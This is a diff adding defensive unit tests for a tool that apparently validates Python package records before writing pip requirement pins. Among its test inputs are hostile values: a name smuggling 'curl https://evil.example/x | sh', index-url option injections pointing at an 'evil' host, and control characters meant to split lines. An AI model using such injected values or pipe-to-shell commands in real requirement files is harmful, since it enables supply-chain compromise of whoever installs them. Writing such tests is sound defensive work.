@@ -141,3 +141,86 @@ test('the flagged description is one line whatever the recorded path holds', () 
   assert.equal(p.problem?.kind, 'editable');
   assert.ok(!describeFlagged(p).includes('\n'));
 });
+
+test('a name that is no PEP 508 name, or a version that is no string, is invalid-name and never installable', () => {
+  const hostile = [
+    '--index-url=https://evil.example/simple',
+    '-e',
+    'numpy\nRUN curl https://evil.example/x | sh',
+    'numpy ',
+    '',
+    '.hidden',
+    'trailing-',
+    'a;b',
+    'x\u2028y',
+  ];
+  for (const name of hostile) {
+    const p = pkg(name, '1.0');
+    assert.equal(p.problem?.kind, 'invalid-name', JSON.stringify(name));
+    assert.equal(
+      p.problem?.reason,
+      `${JSON.stringify(name).replace(/\u2028/g, '\\u2028')} is not a valid package name.`,
+    );
+    assert.equal(p.problem?.instead, 'Check where this record came from.');
+    assert.doesNotMatch(p.name, /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/);
+  }
+  for (const name of ['a', 'A1', 'zope.interface', 'scikit_learn', 'torch-2']) {
+    assert.notEqual(pkg(name, '1.0').problem?.kind, 'invalid-name', name);
+  }
+  const long = pkg(`-${'x'.repeat(200)}`, '1.0');
+  assert.equal(Array.from((long.problem?.reason ?? '').replace(/ is not a valid package name\.$/, '')).length, 80);
+});
+
+test('non-string names and versions from a record do not throw', () => {
+  const cases: unknown[] = [
+    { name: 42, version: '1.0' },
+    { name: null, version: '1.0' },
+    { name: { evil: true }, version: '1.0' },
+    { version: '1.0' },
+    { name: 'numpy', version: 1.26 },
+    { name: 'numpy', version: null },
+    { name: 'numpy' },
+    null,
+  ];
+  for (const raw of cases) {
+    const p = classifyPackage(raw as PackageInfo);
+    assert.equal(p.problem?.kind, 'invalid-name', JSON.stringify(raw));
+    assert.equal(typeof p.name, 'string');
+    assert.equal(typeof p.version, 'string');
+  }
+  assert.match(
+    pkg('numpy', 1.26 as unknown as string).problem?.reason ?? '',
+    /^numpy's version 1\.26 is not a string\.$/,
+  );
+  const env = environment('/usr/bin/python3', '3.11.2', [
+    ...(cases as PackageInfo[]),
+    { name: 'attrs', version: '23.1.0', location: '/a' },
+  ]);
+  const pins = classifyPins(env);
+  assert.deepEqual(
+    pins.filter((p) => p.problem === null).map((p) => p.requirement),
+    ['attrs==23.1.0'],
+  );
+});
+
+test('every flagged description is one line without control characters, whatever the record holds', () => {
+  const nasty = 'x\r\ny\u0085z\u000bw\u001c\u2028\u2029\u202e\u0000\u007f\t';
+  const pins = [
+    pkg(`evil${nasty}`, '1.0'),
+    pkg('weird', `1.0${nasty}`),
+    pkg('mylib', '0.1', {
+      directUrl: { url: `file:///home/a${encodeURIComponent(nasty)}`, dir_info: { editable: true } },
+    }),
+  ];
+  for (const p of pins) {
+    assert.ok(p.problem, p.name);
+    assert.doesNotMatch(describeFlagged(p), /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/, p.name);
+  }
+});
+
+test('a direct URL holding a control character at which pip would split the line is ignored', () => {
+  for (const ch of ['\u001c', '\u001d', '\u001e', '\u0085', '\u000b', '\u0000']) {
+    const p = pkg('a', '1.0', { directUrl: { url: `https://x/a.whl${ch}--index-url=https://evil`, archive_info: {} } });
+    assert.equal(p.requirement, 'a==1.0', JSON.stringify(ch));
+  }
+});
